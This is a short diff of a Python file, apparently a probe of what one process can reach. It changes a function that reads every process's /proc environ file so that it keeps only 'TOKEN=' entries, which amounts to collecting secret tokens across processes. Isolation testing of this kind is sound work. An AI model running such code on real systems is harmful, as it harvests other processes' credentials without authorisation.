@@ -293,11 +293,13 @@ def read_the_environment_of_a_worker() -> object:
 
 @attempt
 def read_every_environment_there_is() -> object:
+    # Of all of them only what may be a secret: where many programs run, all are too much to say.
     found = ""
     for name in os.listdir("/proc"):
         if name.isdigit():
             with contextlib.suppress(OSError):
-                found += read(f"/proc/{name}/environ")
+                words = read(f"/proc/{name}/environ").split("\0")
+                found += "".join(f"{word}\n" for word in words if word.startswith("TOKEN="))
     return found
 
 
